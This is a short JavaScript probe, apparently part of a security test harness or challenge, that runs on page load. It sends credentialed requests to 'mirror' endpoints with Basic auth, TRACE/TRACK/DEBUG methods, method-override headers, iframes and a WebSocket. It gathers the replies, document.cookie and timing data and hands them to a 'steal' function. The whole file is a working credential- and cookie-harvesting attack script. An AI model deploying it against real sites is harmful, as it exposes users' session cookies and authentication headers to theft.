// A system that asks for Basic, and has the header field shown that the gateway gives for the person.
addEventListener("load", async () => {
  const read = async (name, address, options) => {
    const answer = await natural.fetch.call(window, address, { credentials: "include", ...options });
    const told = JSON.stringify([answer.url, answer.status, answer.statusText, [...answer.headers]]);
    await steal(name, new Blob([told, "\n", await attempt(() => answer.arrayBuffer())]));
  };
  const names = await (await natural.fetch.call(window, "/mirrors")).json();
  await Promise.all(names.map((name) => attempt(() => read(`mirror ${name}`, `/mirror/${name}`))));
  await attempt(() => read("own", "/mirror/body", { headers: { authorization: `Basic ${btoa(`${user}:x`)}` } }));
  await attempt(() => read("none", "/mirror/body", { credentials: "omit" }));
  await attempt(() => read("range", "/mirror/body", { headers: { range: "bytes=6-9" } }));
  const methods = ["TRACE", "TRACK", "CONNECT", "OPTIONS", "PROPFIND", "DEBUG"];
  await Promise.all(methods.map((method) => attempt(() => read(method, "/mirror/body", { method }))));
  await attempt(() => read("override", "/mirror/body", { method: "POST", headers: { "x-http-method-override": "TRACE" } }));
  const heard = [];
  await new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open("GET", "/mirror/body", true, user, "x");
    request.onloadend = () => done(heard.push(request.responseText, request.getAllResponseHeaders()));
    request.send();
  });
  const framed = (name) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = `/mirror/${name}`;
    frame.onload = () => done(heard.push(attemptNow(() => frame.contentDocument.documentElement.outerHTML + frame.contentWindow.location)));
    document.body.append(frame);
    setTimeout(done, 1500);
  });
  await Promise.all(["page", "redirect", "refresh"].map(framed));
  await new Promise((done) => {
    const socket = new WebSocket(`${location.origin.replace("http", "ws")}/store/socket`);
    socket.onmessage = (event) => heard.push(event.data);
    socket.onclose = (event) => done(heard.push(event.reason));
  });
  const timings = performance.getEntries().map((one) => JSON.stringify(one) + JSON.stringify(one.serverTiming || []));
  await steal("the rest of basic", JSON.stringify([heard, document.cookie, timings]));
  document.title = "done";
});
function attemptNow(act) { try { return act(); } catch (error) { return String(error); } }
